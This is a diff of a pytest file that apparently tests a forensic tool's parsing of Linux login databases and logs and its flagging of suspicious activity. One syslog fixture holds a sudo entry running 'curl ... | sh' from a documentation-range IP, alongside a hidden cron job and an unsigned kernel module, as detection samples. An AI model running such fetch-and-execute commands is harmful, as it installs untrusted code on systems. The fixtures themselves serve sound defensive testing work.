@@ -2,20 +2,29 @@
 """Log-in databases and logs, ordinary and hostile, and the process that reads them."""
 
 import gzip
+import io
+import lzma
 import os
+import sqlite3
 import struct
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from contextlib import closing
 
 import pytest
-from conftest import VOLUME, TreeMaker
+from conftest import ANALYSIS, VOLUME, TreeMaker
+from hypothesis import given
+from hypothesis import strategies as st
 
 from clean_room_analysis.checks import logins
 from clean_room_analysis.checks.base import Item
 from clean_room_analysis.checks.logins import Logins
 from clean_room_analysis.isolated import IsolatedError, run_isolated
-from clean_room_analysis.model import Finding, Severity, TimelineEvent
+from clean_room_analysis.journal_file import JournalError, JournalReader
+from clean_room_analysis.login_records import read_records
+from clean_room_analysis.model import Entry, Finding, Severity, TimelineEvent
 from clean_room_analysis.mounted_tree import MountedTree
+from clean_room_analysis.utmp import Gap, Login, read_utmp
 
 BASE = 1_795_144_267  # 2026-11-20T03:11:07Z
 ATTACKER = "203.0.113.66"
@@ -81,29 +90,152 @@ def test_garbage_is_no_failure_of_the_run(plain: TreeMaker, content: bytes) -> N
         assert "/var/log/" in str(error)
 
 
-def test_a_journal_that_turns_in_a_circle_ends(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
-    from dissect.target.plugins.os.unix.log.journal import c_journal
+def aarch64(kind: int, user: str, host: str, at: int, line: str = "pts/0") -> bytes:
+    """One record as glibc writes it on aarch64: 400 bytes, a 64-bit session number and time."""
+    return struct.pack("<hxxi32s4s32s256shhqqq16s24x", kind, 100, line.encode(), b"ts/0", user.encode(), host.encode(), 0, 0, 0, at, 5, b"")
 
-    header = bytearray(len(c_journal.Header))
-    header[:8] = b"LPKSHHRH"
-    offset = 512
-    names = list(c_journal.Header.fields)
-    place = next(field.offset for field in (c_journal.Header.fields[name] for name in names) if field.name == "entry_array_offset")
-    struct.pack_into("<Q", header, place, offset)
-    array = struct.pack("<B7xQQQQ", 6, 32, offset, 0, 0)  # an array without entries that names itself as the next
-    plain.file("/var/log/journal/a/system.journal", bytes(header).ljust(offset, b"\0") + array.ljust(512, b"\0"))
+
+def aligned_twice(kind: int, user: str, host: str, at: int) -> bytes:
+    """400 bytes with four more before the session number."""
+    return struct.pack("<hxxi32s4s32s256shh4xqqq16s20x", kind, 100, b"pts/0", b"ts/0", user.encode(), host.encode(), 0, 0, 0, at, 5, b"")
+
+
+@pytest.mark.parametrize("make", [utmp, aarch64, aligned_twice])
+def test_records_of_each_size_are_read(make: Callable[[int, str, str, int], bytes]) -> None:
+    data = b"".join(make(7, f"user{index}", "192.0.2.10", BASE + index) for index in range(30))
+    read = list(read_utmp(io.BytesIO(data)))
+    assert [one.user for one in read if isinstance(one, Login)] == [f"user{index}" for index in range(30)] and len(read) == 30
+    assert isinstance(read[3], Login) and read[3].at // 10**9 == BASE + 3
+
+
+@given(st.lists(st.tuples(st.sampled_from(["utmp", "aarch64", "torn", "junk", "zeros"]), st.integers(0, 9999)), min_size=1, max_size=12))
+def test_mixed_and_torn_databases_keep_every_whole_record(parts: list[tuple[str, int]]) -> None:
+    """Records of both sizes, halves of records and garbage in any order: every whole record is read, no byte is lost without a word."""
+    data, whole = b"", []
+    for kind, number in parts:
+        if kind in ("utmp", "aarch64"):
+            data += (utmp if kind == "utmp" else aarch64)(7, f"u{number}", "192.0.2.1", BASE + number)
+            whole.append(f"u{number}")
+        elif kind == "torn":
+            data += utmp(7, "torn", "", BASE)[: 1 + number % 300].replace(b"\0", b"\xfe")
+        else:
+            data += b"\xfe" * (number % 700) if kind == "junk" else bytes(384)
+    read = list(read_utmp(io.BytesIO(data)))
+    assert [one.user for one in read if isinstance(one, Login)] == whole
+    assert sum(one.length for one in read if isinstance(one, Gap)) == len(data) - sum(
+        384 if kind == "utmp" else 400 for kind, _ in parts if kind in ("utmp", "aarch64")
+    )
+
+
+def test_what_is_no_record_is_an_error_and_no_erasure(plain: TreeMaker) -> None:
+    plain.file("/var/log/wtmp", utmp(7, "a", "192.0.2.1", BASE) + b"\xfe" * 777 + utmp(7, "b", "192.0.2.2", BASE + 9))
+    check = Logins()
+    found: list[str] = []
+    with closing(MountedTree(str(plain.root))) as tree:
+        for entry in tree.walk(lambda path, why: None):
+            if check.wants(entry):
+                assert list(check.look(Item(entry, tree, VOLUME))) == []
+        with pytest.raises(ValueError, match="777 of its bytes, from byte 384 on, hold no log-in record"):
+            found.extend(one.title for one in check.leave(tree) if isinstance(one, Finding))
+    assert found == ["a logged in from 192.0.2.1", "b logged in from 192.0.2.2"]
+
+
+@pytest.mark.parametrize("layout", ["<i32s256s", "<q32s256s"])
+def test_lastlog(plain: TreeMaker, layout: str) -> None:
+    record = struct.Struct(layout)
+    data = bytearray(record.size * 1003)
+    for user, host in ((0, ATTACKER), (1000, "192.0.2.10")):
+        record.pack_into(data, user * record.size, BASE, b"pts/0", host.encode())
+    plain.file("/var/log/lastlog", bytes(data))
+    plain.file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nec2-user:x:1000:1000::/home/ec2-user:/bin/sh\n")
+    assert {one.title for one in plain.findings(Logins())} == {f"root logged in from {ATTACKER}", "ec2-user logged in from 192.0.2.10"}
+
+
+def test_databases_of_newer_systems(plain: TreeMaker) -> None:
+    for path, table in (
+        (
+            "/var/lib/wtmpdb/wtmp.db",
+            "CREATE TABLE wtmp(ID INTEGER PRIMARY KEY, Type INTEGER, User TEXT, Login INTEGER, Logout INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT) STRICT",
+        ),
+        (
+            "/var/lib/lastlog/lastlog2.db",
+            "CREATE TABLE Lastlog2(Name TEXT PRIMARY KEY, Time INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT)",
+        ),
+    ):
+        with closing(sqlite3.connect(plain.file(path))) as database:
+            database.execute("PRAGMA journal_mode=WAL")
+            database.execute(table)
+            if "wtmp" in path:
+                database.execute("INSERT INTO wtmp VALUES(1, 3, 'deploy', ?, NULL, 'pts/0', ?, 'sshd')", (BASE * 10**6, ATTACKER))
+            else:
+                database.execute("INSERT INTO Lastlog2 VALUES('root', ?, 'pts/1', ?, 'sshd')", (BASE, ATTACKER))
+            database.commit()
+    found = {one.title: one for one in plain.findings(Logins())}
+    assert set(found) == {f"deploy logged in from {ATTACKER}", f"root logged in from {ATTACKER}"}
+    assert {one.modified for one in found.values()} == {BASE * 10**9}
+
+
+def test_sudo_and_cron_are_judged_by_what_they_ran(plain: TreeMaker) -> None:
+    plain.file(
+        "/var/log/syslog",
+        "2026-11-20T03:11:00+00:00 ip sudo:   app : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c curl http://198.51.100.23/x | sh\n"
+        "2026-11-20T03:12:00+00:00 ip CRON[9]: (root) CMD (/var/tmp/.x/run)\n"
+        "2026-11-20T03:13:00+00:00 ip CRON[9]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)\n"
+        "2026-11-20T03:14:00+00:00 ip kernel: [ 9.1] evil: module verification failed: signature and/or required key missing - tainting kernel\n",
+    )
+    found = plain.findings(Logins())
+    assert [(one.severity, one.attack[0]) for one in found] == [
+        (Severity.HIGH, "T1548.003"),
+        (Severity.HIGH, "T1053.003"),
+        (Severity.LOW, "T1547.006"),
+    ]
+
+
+def journal() -> bytes:
+    return lzma.decompress((ANALYSIS / "tests/data/small.journal.xz").read_bytes())
+
+
+def test_a_journal_as_systemd_writes_it(plain: TreeMaker) -> None:
+    """data/README.md says how it was made: 120 entries, of which the last is a log-in; compressed and plain fields."""
+    entries = list((reader := JournalReader(journal())).entries({b"sshd", b"sudo"}, 100))
+    assert entries[0].message == "Accepted password for root from 203.0.113.66 port 2 ssh2" and (reader.cut, reader.skipped) == (0, 0)
+    assert any(one.program == "sudo" and len(one.message) > 2000 for one in entries)
+    assert [one.at for one in entries] == sorted((one.at for one in entries), reverse=True)
+    assert [one.at for one in reader.entries({b"sshd"}, 1)] == [entries[0].at] and reader.cut > 0
+    plain.file("/var/log/journal/a/system.journal", journal())
+    assert "root logged in with a password from 203.0.113.66" in {one.title for one in plain.findings(Logins())}
+
+
+@given(st.lists(st.tuples(st.integers(208, 40_000), st.binary(min_size=1, max_size=64)), max_size=20))
+def test_a_damaged_journal_ends_and_says_so(changes: list[tuple[int, bytes]]) -> None:
+    data = bytearray(journal())
+    for at, content in changes:
+        data[at : at + len(content)] = content
+    reader = JournalReader(bytes(data))
+    assert len(list(reader.entries({b"sshd", b"sudo", b"kernel"}, 1000))) <= 120
+    with pytest.raises(JournalError):
+        JournalReader(b"x" * 500)
+
+
+def test_a_log_that_never_ends_is_stopped_and_the_others_are_read(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
+    def endless(tree: object, entry: Entry) -> Iterator[object]:
+        if entry.name.endswith(".journal"):
+            time.sleep(600)
+        yield from read_records(tree, entry)  # type: ignore[arg-type]
+
+    plain.file("/var/log/journal/a/system.journal", b"x")
     plain.file("/var/log/wtmp", utmp(7, "root", "192.0.2.10", BASE))
     monkeypatch.setattr(logins, "_SECONDS_PER_FILE", 2.0)
+    monkeypatch.setattr(logins, "read_records", endless)
     check = Logins()
     found: list[str] = []
     began = time.monotonic()
-    tree = MountedTree(str(plain.root))
-    for entry in tree.walk(lambda path, why: None):
-        if check.wants(entry):
-            assert list(check.look(Item(entry, tree, VOLUME))) == []
-    with pytest.raises(ValueError, match="system.journal: stopped after 2 seconds"):
-        found.extend(one.title for one in check.leave(tree) if isinstance(one, Finding))
-    tree.close()
+    with closing(MountedTree(str(plain.root))) as tree:
+        for entry in tree.walk(lambda path, why: None):
+            if check.wants(entry):
+                assert list(check.look(Item(entry, tree, VOLUME))) == []
+        with pytest.raises(ValueError, match="system.journal: stopped after 2 seconds"):
+            found.extend(one.title for one in check.leave(tree) if isinstance(one, Finding))
     assert time.monotonic() - began < 20
     assert found == ["root logged in from 192.0.2.10"]  # the other log was read all the same
 
